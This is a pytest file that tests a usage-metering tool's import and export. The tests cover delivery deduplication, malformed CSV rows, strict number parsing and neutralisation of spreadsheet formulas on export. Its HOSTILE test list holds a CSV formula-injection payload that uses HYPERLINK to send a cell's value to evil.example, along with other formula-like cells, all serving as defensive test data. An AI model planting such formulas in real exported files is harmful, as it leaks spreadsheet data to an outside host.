"""Imports that must not lose usage: deliveries, stray CSV quotes, numbers, formula cells."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import tempfile
import threading
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest

import tsmeter
from tests.cli.conftest import Cli
from tsmeter import Meter
from tsmeter.cli import importer
from tsmeter.cli.importer import BadLine, import_stream
from tsmeter.errors import ConflictError

GOOD = {
    "metricKey": "api_calls",
    "subjectType": "org",
    "subjectId": "o1",
    "timestamp": "2026-01-05T10:00:00Z",
}
HEADER = "metricKey,subjectType,subjectId,quantity,timestamp,metadata\n"


def jsonl(*items: object) -> str:
    """JSON Lines text: dicts are dumped, strings are taken as the raw line."""
    return "".join((i if isinstance(i, str) else json.dumps(i)) + "\n" for i in items)


def bad_lines(stderr: str) -> list[str]:
    """The ``line N: ...`` reports in a command's stderr."""
    return [line for line in stderr.splitlines() if line.startswith("line ")]


def adds_up(doc: dict[str, int]) -> None:
    """Every physical line is accounted for, and every row has an outcome."""
    parts = doc["header"] + doc["blank"] + doc["continued"] + doc["rows"]
    assert doc["lines"] == parts, doc
    assert doc["rows"] == doc["recorded"] + doc["duplicates"] + doc["bad"], doc


def import_json(cli: Cli, *args: str, input: str | None = None) -> dict[str, int]:
    """Run ``usage import`` with ``--format json`` (it may exit 1 for bad lines); its document."""
    result = cli("--format", "json", "usage", "import", *args, input=input)
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output
    doc: dict[str, int] = json.loads(result.stdout)
    adds_up(doc)
    return doc


# -- item 1: two deliveries are never one retry ----------------------------------------------
def test_same_line_in_two_days_files_is_recorded_twice(metered: Cli, tmp_path: Path) -> None:
    """day1/usage.jsonl and day2/usage.jsonl sharing their first line both count it."""
    for day, other in (("day1", "o2"), ("day2", "o3")):
        (tmp_path / day).mkdir()
        path = tmp_path / day / "usage.jsonl"
        path.write_text(jsonl(GOOD, {**GOOD, "subjectId": other}), encoding="utf-8")
        doc = import_json(metered, str(path))
        assert (doc["recorded"], doc["duplicates"]) == (2, 0)
    records = metered.json("usage", "get", "api_calls")
    assert sorted(r["subjectId"] for r in records) == ["o1", "o1", "o2", "o3"]


def test_two_stdin_imports_sharing_a_line_record_both(metered: Cli) -> None:
    """Two different stdin deliveries with an identical first line count it twice."""
    first = import_json(metered, "-", input=jsonl(GOOD, {**GOOD, "subjectId": "o2"}))
    second = import_json(metered, "-", input=jsonl(GOOD, {**GOOD, "subjectId": "o3"}))
    assert (first["recorded"], second["recorded"], second["duplicates"]) == (2, 2, 0)
    assert first["delivery"] != second["delivery"]
    assert len(metered.json("usage", "get", "api_calls")) == 4


def test_the_same_file_twice_is_a_retry(metered: Cli, tmp_path: Path) -> None:
    """Importing the same bytes again records nothing and says how to import them as new."""
    path = tmp_path / "usage.jsonl"
    path.write_text(jsonl(GOOD, GOOD), encoding="utf-8")
    assert import_json(metered, str(path))["recorded"] == 2
    again = metered.ok("usage", "import", str(path)).stdout
    assert "(0 new, 2 already recorded, 0 bad)" in again
    assert "if it is a new delivery, use --batch-id" in again
    assert len(metered.json("usage", "get", "api_calls")) == 2


def test_batch_ids_name_deliveries(metered: Cli, tmp_path: Path) -> None:
    """The same bytes under two batch ids are two deliveries; a grown file under its batch id
    records only its new lines."""
    path = tmp_path / "usage.jsonl"
    path.write_text(jsonl(GOOD), encoding="utf-8")
    assert import_json(metered, str(path), "--batch-id", "day-1")["recorded"] == 1
    assert import_json(metered, str(path), "--batch-id", "day-2")["recorded"] == 1
    with path.open("a", encoding="utf-8") as grow:
        grow.write(jsonl({**GOOD, "subjectId": "o2"}))
    doc = import_json(metered, str(path), "--batch-id", "day-2")
    assert (doc["recorded"], doc["duplicates"], doc["delivery"]) == (1, 1, "day-2")
    assert len(metered.json("usage", "get", "api_calls")) == 3


@pytest.mark.parametrize(
    ("batch_id", "problem"),
    [
        ("", "batchId: must not be empty"),
        ("a\nb", "batchId: must be printable text (found '\\n')"),
        ("x" * 257, "batchId: must be at most 256 characters"),
        ("\u202eabc", "batchId: must be printable text (found '\\u202e')"),
    ],
)
def test_bad_batch_ids_are_one_line(
    metered: Cli, tmp_path: Path, batch_id: str, problem: str
) -> None:
    """A batch id that cannot name a delivery is one clear error; nothing is recorded."""
    path = tmp_path / "usage.jsonl"
    path.write_text(jsonl(GOOD), encoding="utf-8")
    assert metered.fails("usage", "import", str(path), "--batch-id", batch_id) == (
        f"Error: {problem}"
    )
    assert metered.json("usage", "get", "api_calls") == []


@pytest.fixture
def meter(tmp_path: Path) -> Iterator[Meter]:
    """A meter on a fresh embedded store with a COUNT metric ``api_calls``."""
    with tsmeter.connect(f"sqlite:///{tmp_path / 'x.db'}") as meter:
        meter.define_metric("api_calls", aggregation_type="COUNT")
        yield meter


def test_a_pipe_is_spooled_privately_and_hashed_like_the_file(
    meter: Meter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Input that cannot be read twice is copied to a 0600 temporary file that is gone
    afterwards, and gets the key the same bytes get from a file."""
    data = jsonl(GOOD, {**GOOD, "subjectId": "o2"}).encode()
    spool_dir = tmp_path / "spool"
    spool_dir.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool_dir))
    copy, key = importer._spool(io.BufferedReader(io.BytesIO(data)))
    with copy:
        assert stat.S_IMODE(os.fstat(copy.fileno()).st_mode) == 0o600
        assert copy.read() == data
    read, write = os.pipe()
    writer = threading.Thread(target=lambda: (os.write(write, data), os.close(write)))
    writer.start()
    with os.fdopen(read, "rb") as pipe:
        result = import_stream(meter, pipe, "jsonl")
    writer.join()
    assert (result.recorded, result.delivery) == (2, key)
    assert list(spool_dir.iterdir()) == []
    file = tmp_path / "same.jsonl"
    file.write_bytes(data)
    with file.open("rb") as f:
        again = import_stream(meter, f, "jsonl")
    assert (again.duplicates, again.delivery) == (2, key)


def test_a_file_changed_while_imported_is_a_conflict(meter: Meter, tmp_path: Path) -> None:
    """If the bytes change between hashing and reading, the import says so and names the key
    its records carry, so a retry under that key cannot count them twice."""
    path = tmp_path / "usage.jsonl"
    path.write_text(jsonl("oops", GOOD, {**GOOD, "subjectId": "o2"}), encoding="utf-8")

    def tamper(_: BadLine) -> None:
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace('"o2"', '"o9"'), encoding="utf-8")  # same length

    with path.open("rb", buffering=0) as f, pytest.raises(ConflictError) as caught:
        import_stream(meter, f, "jsonl", batch_size=1, report=tamper)
    assert "changed while it was imported" in str(caught.value)
    key = str(caught.value).split("--batch-id ")[1].split()[0]
    with path.open("rb") as f:
        retry = import_stream(meter, f, "jsonl", batch_id=key)
    assert (retry.recorded, retry.duplicates) == (0, 2)
    assert sorted(r.subject_id for r in meter.get_usage("api_calls")) == ["o1", "o9"]


# -- item 2: one stray quote costs one row ---------------------------------------------------
def test_a_stray_quote_in_a_thousand_row_csv_costs_one_row(metered: Cli, tmp_path: Path) -> None:
    """Row 2 with ``"acme`` is reported at its line; the other 999 rows are recorded."""
    rows = [f"api_calls,org,o{i},,2026-01-05T10:00:00Z," for i in range(1000)]
    rows[1] = 'api_calls,org,"acme,,2026-01-05T10:00:00Z,'
    path = tmp_path / "usage.csv"
    path.write_text(HEADER + "\n".join(rows) + "\n", encoding="utf-8")
    result = metered("usage", "import", str(path))
    assert result.exit_code == 1
    assert bad_lines(result.stderr) == [
        "line 3: unterminated quoted cell (its closing quote is missing); the lines after it "
        "are read again as rows"
    ]
    assert result.stdout.startswith(
        f"{path}: 1001 lines = 1 header + 1000 rows (999 new, 0 already recorded, 1 bad); "
    )
    assert len(metered.json("usage", "get", "api_calls", "--limit", "0")) == 999


def test_csv_counts_add_up(metered: Cli, tmp_path: Path) -> None:
    """Blank lines, the header, a legitimate quoted cell over three lines and rows broken in
    every way add up to the lines read; the multi-line cell stays one row."""
    ts = "2026-01-05T10:00:00Z"
    text = (
        HEADER
        + f"api_calls,org,o1,,{ts},\n"  # 2: new
        + "\n"  # 3: blank
        + f'api_calls,org,o2,,{ts},"{{\n  ""tier"": ""gold""\n}}"\n'  # 4-6: one row
        + f'api_calls,org,"o3"x,,{ts},\n'  # 7: text after a closing quote
        + f'api_calls,org,o4,,{ts},"{{}}\n'  # 8: quote never closed, swallows 9-10
        + f"api_calls,org,o5,,{ts},\n"  # 9: new
        + ",,,,,\n"  # 10: blank
        + 'api_calls,org,"o6\n'  # 11: quote closed on 12 with too few cells
        + f'x",{ts}\n'  # 12: a row of 2 cells
        + f"api_calls,org,o1,,{ts},\n"  # 13: new (another line, another record)
    )
    path = tmp_path / "mixed.csv"
    path.write_text(text, encoding="utf-8")
    result = metered("--format", "json", "usage", "import", str(path))
    doc = json.loads(result.stdout)
    adds_up(doc)
    assert (doc["lines"], doc["header"], doc["blank"], doc["continued"]) == (13, 1, 2, 2)
    assert (doc["rows"], doc["recorded"], doc["bad"]) == (8, 4, 4)
    assert [line.split(":")[0] for line in bad_lines(result.stderr)] == [
        "line 7",
        "line 8",
        "line 11",
        "line 12",
    ]
    records = metered.json("usage", "get", "api_calls")
    assert sorted(r["subjectId"] for r in records) == ["o1", "o1", "o2", "o5"]
    assert next(r for r in records if r["subjectId"] == "o2")["metadata"] == {"tier": "gold"}


def test_unreadable_csv_lines_are_bad_rows(metered: Cli, tmp_path: Path) -> None:
    """A line that is not UTF-8, or longer than the line limit, is a bad row, never blank."""
    path = tmp_path / "bytes.csv"
    good = b"api_calls,org,o1,,2026-01-05T10:00:00Z,\n"
    long = b"api_calls,org," + b"x" * importer.MAX_LINE_BYTES + b",,,\n"
    path.write_bytes(HEADER.encode() + b"\xff\xfe\n" + good + long + good)
    result = metered("--format", "json", "usage", "import", str(path))
    doc = json.loads(result.stdout)
    adds_up(doc)
    assert (doc["rows"], doc["recorded"], doc["bad"]) == (4, 2, 2)
    assert bad_lines(result.stderr) == [
        "line 2: not valid UTF-8 text",
        f"line 4: longer than {importer.MAX_LINE_BYTES} bytes",
    ]


# -- item 10: numbers are taken as written or refused ----------------------------------------
PLAIN = "expected a finite number in plain decimal notation (12, -3.5, 1e6), got "
# quantities are exact decimals: their metric (precision 6, no rounding) refuses these
TOO_MANY_PLACES = (
    "has 400 decimal places, the metric keeps 6 (got 1E-400); round it, or declare the "
    "metric's rounding"
)
OUT_OF_RANGE = (
    "must be between -9223372036854.775807 and 9223372036854.775807 at precision 6, got 1E+400"
)


@pytest.mark.parametrize(
    ("cell", "problem"),
    [
        ("1_000", PLAIN + "'1_000'"),
        ("١٢", PLAIN + "'١٢'"),
        ("1e-400", TOO_MANY_PLACES),
        ("1e400", OUT_OF_RANGE),
        ("1e-2000", "'1e-2000' is too small: it has more than 990 decimal places"),
        ("1e99999999999999999999", "'1e99999999999999999999' is out of range"),
        ("inf", PLAIN + "'inf'"),
        ("0x10", PLAIN + "'0x10'"),
        ("\u00a012", PLAIN + "'\\xa012'"),
    ],
)
def test_csv_numbers_are_not_reinterpreted(
    metered: Cli, tmp_path: Path, cell: str, problem: str
) -> None:
    """Underscores, non-ASCII digits, too many places and too large values are errors naming
    quantity (never 0 or a rounded value)."""
    path = tmp_path / "n.csv"
    path.write_text(f"{HEADER}storage_gb,org,o1,{cell},2026-01-05T10:00:00Z,\n", encoding="utf-8")
    result = metered("usage", "import", str(path))
    assert bad_lines(result.stderr) == [f"line 2: quantity: {problem}"]
    assert metered.json("usage", "get", "storage_gb") == []


def test_plain_csv_numbers_are_taken_as_written(metered: Cli, tmp_path: Path) -> None:
    """Signs, fractions, exponents and spaces or tabs around a number are accepted."""
    cells = ["+5", "-0.5", ".25", "7.", "2.5E3", " 12\t", "0e-400"]
    rows = "".join(
        f"storage_gb,org,o{i},{c},2026-01-05T10:00:0{i}Z,\n" for i, c in enumerate(cells)
    )
    (tmp_path / "n.csv").write_text(HEADER + rows, encoding="utf-8")
    assert import_json(metered, "n.csv")["recorded"] == len(cells)
    got = [r["quantity"] for r in metered.json("usage", "get", "storage_gb")]
    assert [Decimal(q) for q in got] == [Decimal(c.strip()) for c in cells]
    assert got == ["5.000000", "-0.500000", "0.250000", "7.000000", "2500.000000",
                   "12.000000", "0.000000"]  # fmt: skip


@pytest.mark.parametrize(
    ("line", "report"),
    [
        ('{"quantity": 1e-400}', "quantity: " + TOO_MANY_PLACES),
        ('{"quantity": 1e400}', "quantity: " + OUT_OF_RANGE),
        ('{"quantity": 1e-2000}', "quantity: '1e-2000' is too small: it has more than 990 "
         "decimal places"),
        ('{"quantity": 1e99999999999999999999}', "quantity: '1e99999999999999999999' is out of "
         "range"),
        ('{"quantity": "1e-400"}', "quantity: " + TOO_MANY_PLACES),
        ('{"quantity": "1_000"}', "quantity: " + PLAIN + "'1_000'"),
        ('{"quantity": "\u0661"}', "quantity: " + PLAIN + "'\u0661'"),
        ('{"quantity": "NaN"}', "quantity: " + PLAIN + "'NaN'"),
        ('{"quantity": NaN}', "quantity: NaN is not a JSON number"),
        ('{"quantity": -Infinity}', "quantity: -Infinity is not a JSON number"),
        ('{"quantity": 1, "quantity": 1000}', "quantity: key 'quantity' appears twice in one "
         "object"),
        ('{"metadata": {"a": [1, 2e-999]}}', "metadata: '2e-999' is too small: it would become "
         "0"),
        ('{"metadata": {"a": 1, "a": 2}}', "metadata: key 'a' appears twice in one object"),
        ('{"quantity": 1e-400, "metadata": {"a": ' + "1" * 5000 + "}}",
         "not valid JSON: Exceeds the limit (4300 digits) for integer string conversion: value "
         "has 5000 digits; use sys.set_int_max_str_digits() to increase the limit"),
        ('{"quantity": 1e-400, "metadata": {"a": 1e400}}', "metadata: '1e400' is too large: it "
         "would become infinity"),
        ('{"quantity": NaN, "metadata": ' + "[" * 5000 + "]" * 5000 + "}",
         "NaN is not a JSON number"),
    ],
)  # fmt: skip
def test_jsonl_numbers_are_not_reinterpreted(
    metered: Cli, tmp_path: Path, line: str, report: str
) -> None:
    """Quantities with too many places or out of range, metadata numbers a float cannot hold,
    NaN/Infinity and repeated keys are errors naming the field, never 0, inf or the last
    value."""
    item = json.dumps({**GOOD, "metricKey": "storage_gb"})[:-1] + ", " + line[1:]
    path = tmp_path / "n.jsonl"
    path.write_text(item + "\n" + json.dumps(GOOD) + "\n", encoding="utf-8")
    result = metered("usage", "import", str(path))
    assert bad_lines(result.stderr) == [f"line 1: {report}"]
    assert metered.json("usage", "get", "storage_gb") == []
    assert len(metered.json("usage", "get", "api_calls")) == 1


def test_deeply_nested_csv_metadata_is_a_bad_row(metered: Cli, tmp_path: Path) -> None:
    """Metadata nested 5,000 deep in a CSV cell is one bad row; the import goes on."""
    deep = '"' + "[" * 5000 + "]" * 5000 + '"'
    path = tmp_path / "deep.csv"
    path.write_text(
        f"{HEADER}api_calls,org,o1,,2026-01-05T10:00:00Z,{deep}\n"
        "api_calls,org,o2,,2026-01-05T10:00:00Z,\n",
        encoding="utf-8",
    )
    result = metered("usage", "import", str(path))
    assert "Traceback" not in result.output
    assert bad_lines(result.stderr) == ["line 2: metadata: not valid JSON: nested too deeply"]
    assert [r["subjectId"] for r in metered.json("usage", "get", "api_calls")] == ["o2"]


# -- item 11: exported CSV cannot run formulas, and re-imports exactly -----------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-5",
    "+1+1",
    "@SUM(A1)",
    "'=x",
    "''-x",
    "'abc",
    "a,b",
    'say "hi"',
    "\u202eevil\u202c",
    "caf\u00e9 \U0001f600",
    "=1\u2028+2",
]


def test_hostile_cells_round_trip_through_a_neutralised_export(tmp_path: Path) -> None:
    """Formula-like ids, subjects, keys, sources and org ids are exported neutralised (text
    cells only) and a re-import into a fresh store gives back every field exactly."""
    source_db, fresh_db = tmp_path / "a.db", tmp_path / "b.db"
    out = tmp_path / "export.csv"
    org_of = dict(zip(HOSTILE, reversed(HOSTILE), strict=True))
    with tsmeter.connect(f"sqlite:///{source_db}") as meter:
        for i, s in enumerate(HOSTILE):
            meter.define_metric(s, aggregation_type="SUM", org_id=org_of[s])
            meter.record(s, s, s, -5 + i / 4, timestamp="2026-01-05T10:00:00Z", id=s,
                         source=s, metadata={s: s}, org_id=org_of[s])  # fmt: skip
        with out.open("w", encoding="utf-8", newline="") as f:
            assert meter.export_usage(f, fmt="csv") == len(HOSTILE)
        recorded = [r for s in HOSTILE for r in meter.get_usage(s, org_id=org_of[s])]
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    for row in rows:
        for column, cell in row.items():
            if column not in ("quantity", "timestamp"):
                assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
    assert "-5.000000" in [row["quantity"] for row in rows]  # numbers are never touched
    with tsmeter.connect(f"sqlite:///{fresh_db}") as fresh:
        for s in HOSTILE:
            fresh.define_metric(s, aggregation_type="SUM", org_id=org_of[s])
        with out.open("rb") as f:
            result = import_stream(fresh, f, "csv")
        assert (result.recorded, result.bad) == (len(HOSTILE), 0)
        for before in recorded:
            (after,) = fresh.get_usage(before.metric_key, org_id=before.org_id)
            for field in ("id", "metric_key", "subject_type", "subject_id", "quantity",
                          "timestamp", "metadata", "source", "org_id"):  # fmt: skip
                assert getattr(after, field) == getattr(before, field), field


def test_neutralising_can_be_turned_off(metered: Cli, tmp_path: Path) -> None:
    """--no-csv-neutralise (on export or the root) writes cells as stored;
    --no-csv-neutralised imports them as written."""
    metered.ok("usage", "record", "api_calls", "org", "=1+1", "--timestamp", "2026-01-05T10:00:00Z")
    metered.ok("usage", "export", "-o", "safe.csv")
    metered.ok("usage", "export", "-o", "raw.csv", "--no-csv-neutralise")
    assert ",'=1+1," in Path("safe.csv").read_text(encoding="utf-8")
    assert ",=1+1," in Path("raw.csv").read_text(encoding="utf-8")
    metered.ok("--no-csv-neutralise", "usage", "export", "-o", "root.csv")
    assert Path("root.csv").read_text(encoding="utf-8") == Path("raw.csv").read_text("utf-8")
    Path("hand.csv").write_text(
        "metricKey,subjectType,subjectId\napi_calls,org,'=2\n", encoding="utf-8"
    )
    metered.ok("usage", "import", "hand.csv", "--no-csv-neutralised")
    metered.ok("usage", "import", "hand.csv", "--batch-id", "again")
    subjects = sorted(r["subjectId"] for r in metered.json("usage", "get", "api_calls"))
    assert subjects == ["'=2", "=1+1", "=2"]


def test_export_files_are_private_and_overwrites_keep_their_mode(
    metered: Cli, tmp_path: Path
) -> None:
    """A new export file is created 0600; an existing one is replaced and keeps its mode."""
    metered.ok("usage", "record", "api_calls", "org", "o1")
    new = tmp_path / "new.csv"
    metered.ok("usage", "export", "-o", str(new))
    assert stat.S_IMODE(new.stat().st_mode) == 0o600
    shared = tmp_path / "shared.jsonl"
    shared.write_text("old\n", encoding="utf-8")
    shared.chmod(0o640)
    metered.ok("usage", "export", "-o", str(shared))
    assert stat.S_IMODE(shared.stat().st_mode) == 0o640
    assert json.loads(shared.read_text(encoding="utf-8"))["subjectId"] == "o1"
    assert sorted(p.name for p in tmp_path.iterdir() if "partial" in p.name) == []
